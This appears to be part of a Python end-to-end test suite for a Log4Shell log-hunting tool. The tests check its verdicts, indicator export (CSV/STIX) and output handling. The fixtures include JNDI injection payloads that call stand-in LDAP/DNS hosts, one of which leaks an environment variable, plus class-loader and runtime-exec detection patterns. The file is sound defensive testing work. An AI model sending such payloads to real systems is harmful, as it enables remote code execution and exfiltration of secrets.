        self.assertEqual((rows[0]["verdict"], [i["path"] for i in s["incomplete"]]), ("reaches", ["-"]))
        fifo = os.path.join(self.dir, "fifo")
        os.mkfifo(fifo)
        writer = threading.Thread(target=lambda: self.put("fifo", log))
        writer.start()
        code, rows, s = hunt("--outbound", fifo, path)
        writer.join()
        self.assertEqual((rows[0]["verdict"], [i["path"] for i in s["incomplete"]]), ("reaches", [fifo]))

    def test_spool(self):
        """What waits for the outbound logs waits where TMPDIR says, in a file without a name."""
        fifo, tmp = os.path.join(self.dir, "fifo"), os.path.join(self.dir, "tmp")
        os.mkfifo(fifo)
        os.mkdir(tmp)
        p = subprocess.Popen([TOOL, "hunt", "--outbound", fifo, self.put("a.log", access(PAYLOAD))], stdout=subprocess.PIPE,
                             env=env_of({"TMPDIR": tmp}))
        try:
            with open(fifo, "w") as f:  # it has searched the log and waits for us
                links = [os.readlink("/proc/%d/fd/%s" % (p.pid, n)) for n in os.listdir("/proc/%d/fd" % p.pid)]
                self.assertTrue(any(x.startswith(tmp + "/") for x in links), links)
                self.assertEqual(os.listdir(tmp), [])
                f.write(OUTBOUND["squid"])
            self.assertIn(b"CALLED BACK", p.communicate(timeout=20)[0])
        finally:
            p.kill()
            p.wait()
            p.stdout.close()

    def test_not_an_outbound_log(self):
        r = run("--outbound", self.put("wifi.csv", "name,signal\nx,3\n"), self.put("a.log", access(PAYLOAD)))
        self.assertEqual(r.returncode, 2)
        self.assertIn("no column for an address", r.stderr.decode())

    def stix(self, bundle):
        """What the STIX 2.1 specification asks of a bundle (8) and of an indicator (4.7), and its identifiers (2.9) and times (3.2)."""
        uuid = r"[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"
        when = r"^[0-9]{4}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-5][0-9]:[0-6][0-9](\.[0-9]+)?Z$"
        self.assertEqual(set(bundle) - {"objects"}, {"type", "id"})
        self.assertEqual(bundle["type"], "bundle")
        self.assertRegex(bundle["id"], "^bundle--" + uuid)
        self.assertNotEqual(bundle.get("objects"), [])
        for o in bundle.get("objects", ()):
            self.assertEqual(set(o), {"type", "spec_version", "id", "created", "modified", "name", "pattern", "pattern_type", "valid_from",
                                      "indicator_types"})
            self.assertEqual((o["type"], o["spec_version"], o["pattern_type"]), ("indicator", "2.1", "stix"))
            self.assertRegex(o["id"], "^indicator--" + uuid)
            for key in ("created", "modified", "valid_from"):
                self.assertRegex(o[key], when)
            self.assertGreaterEqual(o["modified"], o["created"])
            self.assertRegex(o["pattern"], r"^\[((ipv4-addr|ipv6-addr|domain-name):value = '|domain-name:value LIKE '%\.)([^'\\%]|\\.)+'\]$")
            self.assertIn(o["indicator_types"], [["malicious-activity"]])

    def test_no_indicators_out(self):
        out = os.path.join(self.dir, "ioc.json")
        self.assertEqual(run("--ioc-out", out, self.put("a.log", access())).returncode, 1)
        self.stix(json.loads(read_text(out)))

    def test_indicators_out(self):
        path = self.put("a.log", access(PAYLOAD) + access("${jndi:dns://x.probe.example}") + access("${jndi:ldap://${env:U}.q.example/a}"))
        out = os.path.join(self.dir, "ioc.csv")
        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
        rows = list(csv.DictReader(io.StringIO(read_text(out), newline="")))
        self.assertEqual({(r["type"], r["value"], r["role"]) for r in rows},
                         {("ipv4", "203.0.113.9", "call-back host"), ("domain", "x.probe.example", "call-back host"),
                          ("domain", "*.q.example", "call-back host"), ("ipv4", "198.51.100.23", "attacking client")})
        out = os.path.join(self.dir, "ioc.json")
        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
        bundle = json.loads(read_text(out))
        self.stix(bundle)
        ids = {o["pattern"]: o["id"] for o in bundle["objects"]}
        self.assertEqual(len(set(ids.values())), 4)
        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
        self.assertEqual({o["pattern"]: o["id"] for o in json.loads(read_text(out))["objects"]}, ids)  # the same in every run
        self.assertIn("[domain-name:value LIKE '%.q.example']", ids)
        self.assertIn("[ipv4-addr:value = '203.0.113.9']", [o["pattern"] for o in bundle["objects"]])


class Patterns(Case):
    """What a profile states, in the same pass."""

    def setUp(self):
        super().setUp()
        self.profile = os.path.join(self.dir, "p/")
        self.put("p/patterns.tsv", "# id, expression, titles\nloader\tclass\\.module\\.classLoader\tclass loader\tクラスローダー\n"
                 "exec\t(?i)runtime\\W{1,4}exec\texecution\t実行\n")

    def test_in_order_and_once(self):
        text = ("a\nclass.module.classLoader.x=1 and class.module.classLoader\n" + PAYLOAD + "\nb\n" + PAYLOAD +
                " class.module.classLoader\nRUNTIME).exec\n\nend class.module.classLoader")
        path = self.put("x.log", text)
        _, rows, s = hunt("--profile", self.profile, path)
        self.assertEqual([(r["line"], r["verdict"], r.get("pattern")) for r in rows],
                         [(2, "attempt", "loader"), (3, "reaches", None), (5, "reaches", None), (6, "attempt", "exec"),
                          (8, "attempt", "loader")])
        self.assertEqual(run("-c", path).stdout, b"2\n")  # the built-in profile has none of them

    def test_every_line(self):
        path = self.put("x.log", "GET class.module.classLoader\n" * 20000)
        _, rows, s = hunt("--profile", self.profile, path)
        self.assertEqual([r["line"] for r in rows], list(range(1, 20001)))

    def test_long_line(self):
        path = self.put("x.log", "z" * 9000000 + "class.module.classLoader" + "z" * 9000000 + "\nclass.module.classLoader\n")
        for jobs in ("1", "2"):
            _, rows, s = hunt("--jobs", jobs, "--profile", self.profile, path)
            self.assertEqual([(r["line"], r["pattern"]) for r in rows], [(1, "loader"), (2, "loader")])

    def test_wrong_patterns(self):
        for text, word in (("a\t(b\tc\td\n", "a"), ("a\t(b)\\1\tc\td\n", "a"), ("only\ttwo\n", "line 1"),
                           ("".join("p%d\tx%d\ta\tb\n" % (i, i) for i in range(65)), "64")):
            self.put("p/patterns.tsv", text)
            r = run("--profile", self.profile, self.put("x.log", "x"))
            self.assertEqual(r.returncode, 2)
            self.assertIn(word, r.stderr.decode())
        self.put("p/patterns.tsv", "".join("p%d\txq%dq\ta\tb\n" % (i, i) for i in range(64)))
        self.assertEqual(run("-c", "--profile", self.profile, self.put("x.log", "xq63q\n")).stdout, b"1\n")


class Table(Case):
    def test_widths(self):
        path = self.put("a.log", access(PAYLOAD) + "x ${jndi:dns://${env:A}.h.example\n")
        narrow = run(path, env={"COLUMNS": "80"}).stdout.decode()
        self.assertTrue(narrow.startswith("REACHES      2021-12-13 22:40:03 +09:00  198.51.100.23\n  %s:1   User-Agent\n"
                                          "  ldap://203.0.113.9:1389/a\n" % path), narrow)
        self.assertIn("1 reaches   1 if-closed", narrow)
        self.assertIn("not searched; whether an attempt succeeded is not known", narrow)
        wide = run(path, env={"COLUMNS": "120"}).stdout.decode()
        self.assertTrue(wide.startswith("VERDICT      TIME"), wide)
        self.assertNotIn("\x1b", narrow + wide)
        self.assertIn("\x1b[1;31mREACHES\x1b[0m", run("--colour", "always", path).stdout.decode())
        self.assertIn("到達", run(path, env={"LANG": "ja_JP.UTF-8"}).stdout.decode())

    def test_terminal_is_not_moved(self):
        path = self.put("a\x1b[2J.log", "\x1b]0;x\x07 ${jndi:ldap://h/\x1b[31m‮}\n")
        for fmt in ("table", "csv", "jsonl"):
            out = run("--format", fmt, path).stdout
            self.assertNotIn(b"\x1b", out, fmt)
        r = run("-c", path, self.put("\x1b[31m.zip", b"PK\3\4"), "/no/\x1b[31m")
        self.assertEqual(r.stderr.count(b"\n"), 2)
        r2 = run("--outbound", "/no/\x1b[31m", path)
        self.assertNotIn(b"\x1b", r.stdout + r.stderr + r2.stdout + r2.stderr)

    def test_full_disk_and_closed_pipe(self):
        path = self.put("a.log", access(PAYLOAD) * 20000)
        for args in (["--format", "table"], ["--format", "jsonl"], ["--format", "csv"], ["-c"], ["--follow", "--format", "jsonl"]):
            with open("/dev/full", "wb") as full:
                p = subprocess.run([TOOL, "hunt", *args, path], stdout=full, stderr=subprocess.PIPE, env=env_of(), timeout=60)
            self.assertEqual((p.returncode, b"No space left" in p.stderr), (2, True), args)
            if args != ["-c"]:
                p = subprocess.run("%s hunt %s %s | head -c 9" % (TOOL, " ".join(args), path), shell=True, capture_output=True,
                                   env=env_of(), timeout=60)
                self.assertEqual((len(p.stdout), p.stderr), (9, b""), args)

    def test_indicators_into_a_pipe(self):
        """What is there and no file is written to and not replaced."""
        fifo, got = os.path.join(self.dir, "ioc.csv"), []
        os.mkfifo(fifo)
        reader = threading.Thread(target=lambda: got.append(read_text(fifo)))
        reader.start()
        try:
            self.assertEqual(run("--ioc-out", fifo, self.put("a.log", access(PAYLOAD))).returncode, 0)
            self.assertTrue(stat.S_ISFIFO(os.stat(fifo).st_mode))
        finally:
            if reader.is_alive() and not got:
                os.close(os.open(fifo, os.O_RDWR | os.O_NONBLOCK)) if stat.S_ISFIFO(os.stat(fifo).st_mode) else None
            reader.join(5)
        self.assertIn("ipv4,203.0.113.9,call-back host", got[0])
        r = run("--ioc-out", "/dev/stdout", "--no-summary", self.put("a.log", access(PAYLOAD)))
        self.assertIn(b"ipv4,203.0.113.9,call-back host", r.stdout)

    def test_nothing(self):
        out = run(self.put("a.log", access() * 3)).stdout.decode()
        self.assertEqual(out, "NOTHING FOUND in 3 lines of 1 files, 2021-12-13 22:40 to 2021-12-13 22:40\n")
        cut = run(self.put("a.gz", gzip.compress(access().encode() * 90)[:-9])).stdout.decode()
        self.assertNotIn("NOTHING FOUND", cut)
        self.assertIn("NOT FULLY EXAMINED", cut)

    def test_csv(self):
        out = run("--format", "csv", self.put("a.log", access(PAYLOAD) + access("=cmd ${jndi:ldap://h/=1}"))).stdout.decode()
        rows = list(csv.DictReader(io.StringIO(out)))
        self.assertEqual((rows[0]["verdict"], rows[0]["host"], rows[0]["port"]), ("reaches", "203.0.113.9", "1389"))
        self.assertEqual(len(rows), 2)


class Manual(Case):
    def test_help_and_manual_name_the_same_options(self):
        with open(os.path.join(HERE, "../../packaging/man/hikeshi-hunt.1"), encoding="utf-8") as f:
            manual = f.read()
        synopsis = {m.lstrip("-") for m in re.findall(r"^\.Op Fl -?([a-z-]+)", manual, re.M)}
        listed = {m for line in re.findall(r"^\.It Fl (.*)", manual, re.M) for m in re.findall(r"-([a-z-]+)", line)}
        english, japanese = (run("--help", env={"LANG": lang}).stdout.decode() for lang in ("C.UTF-8", "ja_JP.UTF-8"))
        helped = set(re.findall(r"^  (?:-c, )?--([a-z-]+)", english, re.M))
        self.assertEqual(helped, set(re.findall(r"^  (?:-c, )?--([a-z-]+)", japanese, re.M)))
        self.assertEqual(listed, helped | {"color"})
        self.assertEqual(synopsis, helped - {"help", "count"} | {"c"})


class Elsewhere(Case):
    """The stdin form under other engines."""

    @unittest.skipUnless(shutil.which("parallel"), "GNU parallel is not installed")
    def test_gnu_parallel(self):
        text = "".join(access(PAYLOAD if i % 1000 == 7 else "") for i in range(60000))
        r = subprocess.run(["parallel", "--pipe", "--block", "1M", "-j2", os.path.abspath(TOOL), "hunt", "--format", "jsonl",
                            "--no-summary", "-"], input=text.encode(), capture_output=True, env=env_of(), timeout=100)
        self.assertEqual(len(r.stdout.splitlines()), 60)

    @unittest.skipUnless(shutil.which("xargs"), "no xargs")
    def test_xargs(self):
        for i in range(20):
            self.put("l/%d.log" % i, access(PAYLOAD))
        names = "\0".join(os.path.join(self.dir, "l", n) for n in os.listdir(os.path.join(self.dir, "l")))
        r = subprocess.run(["xargs", "-0", "-n5", "-P2", TOOL, "hunt", "-c"], input=names.encode(), capture_output=True,
                           env=env_of())
        self.assertEqual(len(r.stdout.splitlines()), 20)


@unittest.skipUnless(os.path.isdir(os.path.join(HERE, "chdb/node_modules/chdb")) and not SANITIZED,
                     "npm install --prefix tests/e2e/chdb, and a build without sanitizers")
class ClickHouse(Case):
    def test_executable(self):
        os.makedirs(os.path.join(self.dir, "s/user_scripts"))
        shutil.copy(TOOL, os.path.join(self.dir, "s/user_scripts/hikeshi"))
        sql = """SELECT line, verdict, resolves_to, client FROM executable('hikeshi hunt --format jsonl --no-summary -', JSONEachRow,
                 'line UInt64, verdict String, resolves_to Nullable(String), client Nullable(String)',
                 (SELECT '192.0.2.8' AS remote_addr, concat('GET /', if(number %% 100 = 7, '%s', toString(number))) AS request
                  FROM numbers(1000) ORDER BY number))
                 SETTINGS input_format_skip_unknown_fields = 1 FORMAT JSONEachRow""" % PAYLOAD
        r = subprocess.run(["node", os.path.join(HERE, "chdb/query.mjs"), os.path.join(self.dir, "s")], input=sql.encode(),
                           capture_output=True, timeout=120, env=env_of())
        rows = [json.loads(x) for x in r.stdout.splitlines()]
        self.assertEqual([x["line"] for x in rows], list(range(8, 1000, 100)), r.stderr[-2000:])
        self.assertEqual({(x["verdict"], x["resolves_to"], x["client"]) for x in rows},
                         {("reaches", "ldap://203.0.113.9:1389/a", "192.0.2.8")})


@unittest.skipUnless(os.path.isdir(SAMPLES), "no labelled texts on this machine")
class Labelled(Case):
    def test_collected(self):
        want = {"A": ("reaches",), "T": ("if-closed", "reaches")}
        missed = []
        for line in read_text(os.path.join(SAMPLES, "collected.tsv")).splitlines(keepends=True):
            kind, _, _, _, text = line.rstrip("\n").split("\t", 4)
            if kind not in want:
                continue
            _, rows, _ = hunt("-", input=(access(text)).encode())
            _, alone, _ = hunt("-", input=text.encode())
            if not any(r["verdict"] in want[kind] for r in rows + alone):
                missed.append(line)
        self.assertEqual(missed, [])

    def test_encoded(self):
        for name in sorted(os.listdir(os.path.join(SAMPLES, "encoded"))):
            path = os.path.join(SAMPLES, "encoded", name)
            _, rows, s = hunt("--least", "reaches", path)
            self.assertEqual(len(rows), s["lines"], name)

    def test_harmless(self):
        for name in ("benign-tricky.log", "not_jndi.txt"):
            _, rows, _ = hunt("--least", "reaches", os.path.join(SAMPLES, name))
            self.assertEqual(rows, [], name)


if __name__ == "__main__":
    unittest.main()
